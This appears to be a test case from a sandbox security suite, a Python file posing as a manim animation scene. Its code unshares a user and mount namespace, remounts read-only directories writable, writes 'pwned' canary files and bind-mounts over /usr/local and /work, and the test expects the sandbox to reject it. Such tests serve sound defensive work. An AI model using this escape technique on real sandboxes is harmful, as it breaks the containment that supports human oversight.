# category: fs
# attack: unshare a user+mount namespace (full caps inside it), then remount the read-only binds (/usr, venv) rw, bind-mount over them, and write the visible read-only canaries in /usr/local and the venv
# expect: any
# policy: reject
import ctypes
import os

from manim import *

DIRS = HOSTILE_DIRS
BREACH = "HOSTILE-" + "BREACH"


class UsernsMount(Scene):
    def construct(self):
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]
        pid = os.fork()
        if pid == 0:
            try:
                rc = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
                print("unshare", rc, ctypes.get_errno(), flush=True)
                for d in DIRS:
                    for flags in (32 | 4096 | 16384, 32):  # REMOUNT|BIND|REC, REMOUNT
                        libc.mount(None, d.encode(), None, flags, None)
                    libc.mount(None, b"/usr", None, 32 | 4096, None)
                    try:
                        with open(d + "/pwned", "w") as f:
                            f.write("pwned from a user namespace")
                        print(BREACH, "wrote", d, flush=True)
                    except OSError as exc:
                        print("write", d, type(exc).__name__, flush=True)
                for target in ("/usr/local", "/work"):
                    libc.mount(b"/job", target.encode(), None, 4096, None)  # MS_BIND
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        self.play(FadeIn(Square()), run_time=0.3)
